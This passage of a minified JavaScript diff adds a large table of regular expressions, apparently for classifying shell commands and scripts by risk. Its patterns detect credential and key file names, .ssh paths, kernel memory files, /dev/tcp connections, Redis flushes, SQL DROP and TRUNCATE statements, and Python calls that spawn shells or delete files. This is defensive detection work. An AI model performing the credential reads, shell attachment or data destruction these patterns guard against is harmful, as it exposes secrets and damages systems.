-get(Xu.get(t)??t);function $e(t,e){let s=Xu.get(t)??t,r=Cr(s)??{},n=[],o=[],i=[],a=[...e],l=(d,u)=>u&&o.push({flag:d,value:u}),c=!1;for(let d=a.shift();d!==void 0;d=
+"checking_option":["^(?:c|check|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)$])","g"],"git_filter"\
+:["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choosing":["(?:[!=<>]=\\\\s*\
+|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endswith|contains|inside|has|split|r?index|match|capture|scan|[lr]tr\
+imstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain_text":["^[\\\\w\\\\u{FFFC\
+}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_upcase|gsub|sub|reverse|\
+tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_settings":["/(config|k\
+nown_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp|var/tmp|var/folders|p\
+rivate/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(usr|var|etc|system|libra\
+ry)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|var/www|etc/apt/(sources\\\\.list\\\\\
+.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^(tmp|temp|test|scratch|demo|dum\
+my|build|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|output|bak|results?|coverage|artifacts?|generated)$|.+\\\\.(egg-info|dist\
+-info|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\
+\\\\.js|min\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"local_connection":["^/dev/(tcp|udp)/(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\
+\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"],"other_place":["^(?:-h|-u$|--host|--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connec\
+t|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|\
+awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\
+\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredi\
+s\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|k\
+eystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging\
+|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|d\
+b|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv\
+|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|sa[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|\
+access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(\
+fixtures?|__fixtures__|testdata|test[-_]data|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|c\
+lient|localhost|leaf|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program ?files.*|programdata|system.*|users|boot|efi|recov\
+ery|perflogs|\\\\$.*)$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|-\
+-quiet|--count)$"],"listing_flag":["^(?:-l|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\1=?(?:(?!\\\\1)[^&\\\\\
+\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:\
+-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A\
+-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}\
+]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&& ?NF)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"line_filter":["\
+^(?:cat|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(?! -c)|env|kubectl get|oc get) ?"],"se\
+cret_listing":["^(?:kubectl|oc)$"],"counter":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["\
+(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"text_filter":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](\
+?:example|sample|template|tpl|dist|defaults?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\
+\\d+|[A-Za-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed\
+_command":["[\\\\s;{}!]+|#.*|\\\\d+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])\
+*\\\\]|(?!\\\\k<quote>)[^\\\\\\\\[])*\\\\k<quote>|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\])(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\
+\\[])*\\\\k<delimiter>)(?<replacement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*\\\\k<delimiter>)(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\
+\\s\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]\
+*)|e(?<command>.*)|[wW](?<output>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\]\
+)*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x\
+60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_di\
+rective":["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%\
+(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolat\
+ion":["\\\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?\
+<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \
+\\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\
+\\[ (?:1|true|x) \\\\]|test 1|echo.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|syst\
+em)\\\\b"],"generated_statement":["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"]\
+,"host":["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[\
+!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"r\
+eferring_word":["^(?:remote|context|config.*)$"],"name_maker":["^(?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obl\
+igation":["(?:needs? to|should|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\
+\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)\
+"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{\
+1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]\
++","y"],"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE]\
+[+-]?\\\\d+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuin\
+g_mark":["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\
+\\.\\\\.)$"],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"pref\
+ixed_quote":["(?<prefix>[rbfuRBFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_pe\
+rcent":["(%[wWiIqQxr]?)([({[<|!/])","y"],"quoting_none":["(?!)","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,\
+300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dollar":[\
+"\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\\
+})?","y"],"table_deed":["^(?:drop-table|truncate|delete-all|update-all)$"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0|WHERE \\\\(* ?(?:FALSE|0|1 =\
+ [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not false)(?: *\\\\)*)$","i"],"cli\
+ent_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4000}?\\\\b(?:program|PROGRAM)\
+[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(?<quote>['\\"\\\\x60])(?<qu\
+oted>(?:(?!\\\\k<quote>)[\\\\s\\\\S]|\\\\k<quote>\\\\k<quote>)*)\\\\k<quote>?|\\\\[(?<name>[^\\\\]]*)\\\\]?|\\\\$(?<tag>\\\\w*)\\\\$(?<text>[\\\\s\\\\S]*?)(?:\\\\$\\\\k<tag>\\\\$|$)|(?<word>[\\\\p\
+{L}_@#$][\\\\p{L}\\\\p{N}_$#]*|\\\\d[\\\\w.]*)|(?<mark>[\\\\s\\\\S])","uy"],"loop_variable":["\\\\bfor(?:each)?[\\\\s(]{0,20}(?:await[\\\\s(]{1,9})?(?:(?:const|let|var|my)\\\\s{1,9\
+})?\\\\(?([\\\\w$, ]{1,100}?)\\\\)?\\\\s{1,9}(?:in|of)\\\\b|\\\\b(\\\\w[\\\\w, ]{0,99})\\\\)?\\\\s{0,9}=>|\\\\|\\\\s*(\\\\w[\\\\w, ]*)\\\\||\\\\bas\\\\s+\\\\$?(\\\\w+)|\\\\blambda\\\\s+(\\\\w+)","g"],"tes\
+t_clause":["\\\\b(?:if|elif|unless|filter|fnmatch|grep|select|reject|when)\\\\b([^\\\\n;{]{0,300})","g"],"tested_ending":["[\\"']\\\\.([\\\\w.]{1,12})[\\"']|\\\\\\\\\\\\.(?:\\\\(\\\\\
+??:?)?([\\\\w|.\\\\\\\\]{1,60})\\\\)?\\\\$","g"],"tested_name":["(\\\\w+)(?:\\\\.name)?\\\\s*={2,3}\\\\s*[\\"']([\\\\w.-]+)[\\"']","g"],"known_command":["^(?![\\\\s\\\\S]*(?:^|[;&|\\\\n(\`{\
+!]\\\\s*|\\\\b(?:sudo|doas|env|exec|eval|then|do|else|time|nohup|nice|xargs|\\\\w*sh|-c)\\\\s+|\\\\w=\\\\S*\\\\s+)['\\"]?\\\\u{FFFC})\\\\s*[\\\\w./-]","u"],"deletes":["^\\\\s*(?:sudo\\\
+\\s+)?(?:rm|truncate|shred)\\\\s"],"below_new_folder":["^/tmp/(?:tmp[.])?\\\\u{FFFC}/","u"],"class_name":["^[A-Z]\\\\w*$"],"program_call":["^(?:sh|plumbum\\\\.cmd)\\\\.(\\\\\
+w+)(?:\\\\.bake)?$"],"own_method":["^(?:self|this|\\\\$this)\\\\.(\\\\w+)$"],"static_method":["^(?:self|this|[A-Z]\\\\w*)\\\\.(\\\\w+)$"],"true_or_false":["^(?:True|False|tru\
+e|false)$"],"entry_path":["^((?:.*/)?)(?:\\\\*|\\\\u{FFFC}+\\\\u{FFF9}?|\\\\*?\\\\.?[\\\\w.-]+)$","su"],"uses_arguments":["arg|shift|\\\\$[1-9*@]","i"],"uses_environment":["e\
+nv","i"],"uses_input":["stdin|input|gets|readline|<>|\\\\$_|\\\\$<|readfile|read\\\\(|argf|ARGV|\\\\$\\\\d|getline|print","i"]},"texts":{"XML or HTML":["^\\\\s*<(!doctype|\\\
+\\?xml|[a-z][\\\\w-]*(\\\\s[^>]*)?>)","i"],"Markdown":["^\\\\s*(\`\`\`|#{1,6} \\\\S|\\\\||[-*] \\\\S)|\\\\n\`\`\`"],"a log":["^\\\\s*(\\\\[?\\\\d{4}-\\\\d\\\\d-\\\\d\\\\d[T ]|Traceback \\\\(most re\
+cent|\\\\w*Error: )|\\\\n\\\\s+at \\\\S+ \\\\("],"a sentence":["^\\\\s*\\\\p{Lu}[\\\\p{L}'\\u2019]*[, ]\\\\s*\\\\p{L}[^\\\\n]*[.!?:)](\\\\s|$)","u"]}},"languages":{"languages":{"python"\
+:{"lexer":{"comment":["#"],"sigils":"","interpolation":"f_string","triple":true,"single_escapes":true,"quoting":"none","patterns":false,"lines":"indent"},"progr\
+am":"python3","blocks":"indent","member_operators":["."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["def"],"inputs":{"sys.argv":"argv"\
+,"os.environ":"environment","sys.stdin":"lines"},"sdks":["boto3.","botocore.session.","botocore.client.","aiobotocore.","aioboto3.","google.cloud.","googleapicl\
+ient.","firebase_admin.","azure.","kubernetes.","openshift.","digitalocean.","pydo.","hcloud.","linode_api4.","oci.","openstack.","libcloud.","stripe.","github.\
+Github","gitlab.","heroku3.","cloudflare.","CloudFlare.","elasticsearch.","opensearchpy.","minio.","hvac.","pinecone.","qdrant_client.","weaviate.","pymilvus.",\
+"algoliasearch.","meilisearch.","typesense.","confluent_kafka.","kafka.","pulsar.","auth0.","okta.","shopify.","twilio.","sendgrid.","supabase.","appwrite.","co\
+ntentful_management.","huggingface_hub.","wandb.","mlflow.","comet_ml.","slack_sdk.","slack.","pyVmomi.","proxmoxer.","vercel.","netlify.","tencentcloud.","aliy\
+unsdk","alibabacloud","openai.","influxdb_client.","datadog_api_client.","pulumi.","pagerduty.","pdpyras.","jira.","atlassian.","notion_client.","asana.","repli\
+cate.","pyairtable.","zenpy.","kr8s.","lightkube.","gspread.","ldap3.","etcd3.","kazoo.","asyncssh.","pysftp.","smbclient.","dropbox.","cloudinary.","mailchimp_\
+marketing.","intercom.","pyzenodo.","trello.","praw.","tweepy.","boxsdk.","msgraph.","exchangelib.","simple_salesforce.","hubspot."],"texts":{"stat.S_ISUID":"u+\
+s","stat.S_ISGID":"g+s","sys.executable":"python3","os.sep":"/","os.curdir":".","os.pardir":"..","__file__":"./program.py","string.ascii_lowercase":"abcdefghijk\
+lmnopqrstuvwxyz"},"aliases":{"posix.system":"os.system","nt.system":"os.system","io.open":"open","codecs.open":"open","Path":"pathlib.Path","subprocess.os.syste\
+m":"os.system","urllib2.urlopen":"urllib.request.urlopen","urllib.urlopen":"urllib.request.urlopen","urllib.urlretrieve":"urllib.request.urlretrieve","pd.read_c\
+sv":"pandas.read_csv"},"rewrites":[["^(?:builtins|__builtins__|os\\\\.sys\\\\.modules|sys\\\\.modules|six\\\\.moves)\\\\.|\\\\.__dict__|\\\\.__call__$",""],["^Path(?=\\\\.)","p\
+athlib.Path"],["^mock\\\\.(?=\\\\w)","unittest.mock."],["^moto\\\\.(?:\\\\w+\\\\.)?mock_\\\\w+$","moto.mock_aws"],["^aiofiles\\\\.(?=os\\\\.|open$)",""],["^aioshutil\\\\.","shuti\
+l."],["^(?:(?:anyio|trio)\\\\.Path|aiopath\\\\.AsyncPath)(?=\\\\.|$)","pathlib.Path"]],"functions":{"print":"print","sys.stdout.write":"print text","input":"input","r\
+aw_input":"input","open":"open $0:file $1:mode","os.remove":"run rm $0:path","os.unlink":"run rm $0:path","pathlib.Path.unlink":"run rm $0:path","os.rmdir":"run\
+ rmdir $0:path","pathlib.Path.rmdir":"run rmdir $0:path","os.removedirs":"run rmdir -p $0:name","shutil.rmtree":"run rm -rf $0:path","send2trash.send2trash":"ru\
+n rm -rf $0","plyvel.destroy_db":"run rm -rf $0","os.rename":"run mv $0:src $1:dst","os.replace":"run mv $0:src $1:dst","os.renames":"run mv $0:src $1:dst","shu\
+til.move":"run mv $0:src $1:dst","shutil.copy":"run cp $0:src $1:dst","shutil.copy2":"run cp $0:src $1:dst","shutil.copyfile":"run cp $0:src $1:dst","shutil.cop\
+ytree":"run cp -r $0:src $1:dst","os.link":"run ln $0 $1","os.symlink":"run ln -s $0 $1","os.truncate":"run truncate -s 0 $0","os.mkfifo":"run mkfifo $0","os.mk\
+nod":"run mknod $0","os.chmod":"chmod $0:path $1:mode","os.chown":"run chown $1:uid:user $0:path","os.lchown":"run chown $1:uid:user $0:path","shutil.chown":"ru\
+n chown $1:uid:user $0:path","os.open":"open $0 $1 flags","tempfile.NamedTemporaryFile":"made written /tmp/temporary","os.system":"shell $0:command:cmd","os.pop\
+en":"shell $0:command:cmd","commands.getoutput":"shell $0:command:cmd","asyncio.create_subprocess_shell":"shell $0:command:cmd","asyncio.create_subprocess_exec"\
+:"program $all","pty.spawn":"attach-shell $0 | program $0","pexpect.spawn":"shell $0:args:command:cmd $:input:stdin","pexpect.run":"shell $0:args:command:cmd $:\
+input:stdin","subprocess.run":"shell $0:args:command:cmd $:input:stdin","subprocess.call":"shell $0:args:command:cmd $:input:stdin","subprocess.check_call":"she\
+ll $0:args:command:cmd $:input:stdin","subprocess.check_output":"shell $0:args:command:cmd $:input:stdin","subprocess.Popen":"shell $0:args:command:cmd $:input:\
+stdin","subprocess.getoutput":"shell $0:args:command:cmd $:input:stdin","subprocess.getstatusoutput":"shell $0:args:command:cmd $:input:stdin","os.execl":"execu\
+te $0 $1..","os.execlp":"execute $0 $1..","os.execle":"execute $0 $1..","os.execlpe":"execute $0 $1..","os.execv":"execute $0 $1..","os.execvp":"execute $0 $1..\
+","os.execve":"execute $0 $1..","os.execvpe":"execute $0 $1..","os.posix_spawn":"execute $0 $1..","os.spawnl":"execute $1 $2..","os.spawnlp":"execute $1 $2..","\
+os.spawnle":"execute $1 $2..","os.spawnlpe":"execute $1 $2..","os.spawnv":"execute $1 $2..","os.spawnvp":"execute $1 $2..","os.spawnve":"execute $1 $2..","os.sp\
+awnvpe":"execute $1 $2..","sh.Command":"made program","os.dup2":"attach-shell /bin/sh | value","os.kill":"kill $0 $1","os.killpg":"kill $0 $1 group","psutil.Pro\
+cess":"made psutil.Process","psutil.process_iter":"entries any-process","psutil.pids":"entries","os.listdir":"names $0","os.fork":"if-sign:repeats run fork","os\
+.setuid":"run setuid $last","os.seteuid":"run setuid $last","os.setresuid":"run setuid $last","os.setgid":"run setgid $last","os.chroot":"run chroot $0","ctypes\
+.CDLL":"made library","exec":"eval $0","eval":"eval $0","fileinput.input":"if-no-sign:writes if-option:inplace=True run truncate -s 0 $0:files | read $0","execf\
+ile":"read $0","linecache.getlines":"read $0","numpy.loadtxt":"read $0","pandas.read_csv":"read $0","pandas.read_json":"read $0","dotenv.dotenv_values":"read $0\
+","importlib.util.spec_from_file_location":"run python3 $1","runpy.run_path":"run python3 $0","pickle.load":"load $0","pickle.loads":"load $0","dill.load":"load\
+ $0","dill.loads":"load $0","joblib.load":"load $0","torch.load":"load $0","marshal.loads":"load $0","zipfile.ZipFile":"open $0:file:name $1:mode","tarfile.open\
+":"open $0:file:name $1:mode","gzip.open":"open $0:file:name $1:mode","bz2.open":"open $0:file:name $1:mode","lzma.open":"open $0:file:name $1:mode","shelve.ope\
+n":"made store $0","dbm.open":"made store $0","lmdb.open":"made store $0","plyvel.DB":"made store $0","diskcache.Cache":"made store $0","h5py.File":"made store \
